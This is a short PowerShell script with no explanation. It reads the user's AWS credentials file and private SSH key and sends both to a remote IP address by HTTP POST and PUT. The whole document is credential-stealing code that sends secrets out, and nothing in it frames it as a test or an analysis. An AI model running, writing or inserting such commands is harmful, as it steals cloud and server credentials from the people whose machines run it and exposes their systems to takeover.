$c = Get-Content "$env:USERPROFILE\.aws\credentials" -Raw
Invoke-RestMethod -Uri "https://198.51.100.9/b" -Method Post -Body $c
Invoke-WebRequest -Uri "https://198.51.100.9/c" -Method Put -Body (Get-Content "$env:USERPROFILE\.ssh\id_rsa" -Raw)
